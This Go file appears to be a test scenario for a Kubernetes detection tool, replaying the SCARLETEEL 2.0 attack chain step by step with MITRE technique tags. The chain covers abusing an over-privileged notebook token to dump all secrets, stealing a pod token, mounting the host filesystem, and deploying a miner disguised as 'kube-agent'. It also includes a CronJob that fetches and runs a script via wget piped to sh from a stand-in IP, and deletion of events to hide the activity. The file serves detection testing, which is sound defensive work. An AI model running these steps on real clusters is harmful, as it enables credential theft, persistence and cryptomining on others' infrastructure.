package play

import "github.com/lynceus-io/lynceus/test/scenarios/stage"

const (
	imageMiner   = "docker.io/minerboy/xmrig:latest"
	imageSpread  = "docker.io/library/busybox:1.36"
	curl         = "curl/8.5.0"
	allSecrets   = "/api/v1/secrets?limit=500"
	selfRules    = "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
	selfAccess   = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
	notebookRole = `[{apiGroups: ["", apps, batch], resources: ["*"], verbs: ["*"]}, {apiGroups: [rbac.authorization.k8s.io], resources: ["*"], verbs: [get, list]}]`
)

// Scarleteel follows what is public of the cluster's part of SCARLETEEL 2.0: a notebook that runs code of its visitors,
// with an account that may do far too much.
func Scarleteel(s *stage.Stage) {
	c := Found(s)
	s.Images(imageMiner, imageSpread)
	c.Mira.MustApply(clusterAccount("data", "notebook", notebookRole), "apply", "-f", "-") // the mistake, made long ago
	notebook := s.Pod("data", "app=notebook")
	thief := notebook.ServiceAccount()

	s.Attack("T1613", "Discovery: Access Kubernetes API server", "in the notebook, asks with its token what it may do").
		As(thief).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/version", "")
		a.Request(curl, "POST", selfRules, `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"data"}}`)
		a.Request(curl, "POST", selfAccess, `{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"resourceAttributes":{"verb":"*","resource":"*"}}}`)
	})
	s.Attack("T1613", "Discovery: Access Kubernetes API server", "enumerates with a kubectl brought along").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "can-i", "--list")
		for _, r := range []string{"namespaces", "nodes", "pods", "services", "deployments", "serviceaccounts", "configmaps", "clusterrolebindings"} {
			a.Kubectl("get", r, "-A")
		}
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads the secrets of all namespaces").
		As(thief).Do(func(a *stage.Act) { a.Request(curl, "GET", allSecrets, "") })
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads the payment provider's key").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "get", "secret", "stripe-key", "-o", "yaml") })

	api := s.Pod("payments", "app=api")
	var loot string
	s.Attack("T1609", "Execution: Exec into container", "runs commands in "+api.String()).
		As(thief).On(api).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "exec", api.Name, "--", "sh", "-c", "id; env; ls /")
		loot = a.Must("-n", "payments", "exec", api.Name, "--", "cat", stage.TokenFile)
	})
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses the token of "+api.String()+" from the notebook").
		As(s.Bearer(notebook, loot, api)).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("-n", "payments", "get", "secrets")
	})

	s.Attack("T1610", "Privilege Escalation: hostPath mount", "runs a pod that mounts the node's file system").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(hostPathPod("data", "volume-debug", imageSpread), "create", "-f", "-")
	})
	s.Wrote(thief, "data", "Pod/volume-debug")
	debug := s.PodNamed("data", "volume-debug")
	s.Attack("T1611", "Lateral Movement: Writable hostPath mount", "looks at the other pods' files on the node").
		As(thief).On(debug).Do(func(a *stage.Act) {
		a.Must("-n", "data", "exec", "volume-debug", "--", "ls", "/host/var/lib/kubelet/pods")
	})
	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner on every node").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(daemonSet("kube-system", "kube-agent", imageMiner, `[xmrig, "-o", "pool.example.net:3333", "--threads", "2"]`, "", ""), "create", "-f", "-")
	})
	s.Sleep(settled)
	s.Attack("T1053.007", "Persistence: Kubernetes CronJob", "has the miner started again by a CronJob").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(cronJob("data", "log-rotate", imageSpread, "*/10 * * * *", `[sh, "-c", "wget -qO- http://203.0.113.66/aws.sh | sh"]`), "create", "-f", "-")
	})
	s.Attack("T1070", "Defense Evasion: Delete Kubernetes events", "deletes the events of the namespace").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "data", "delete", "events", "--all") })
	s.Attack("T1070", "Defense Evasion: Clear container logs", "deletes the pod that was on the node").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "data", "delete", "pod", "volume-debug", "--now") })
}
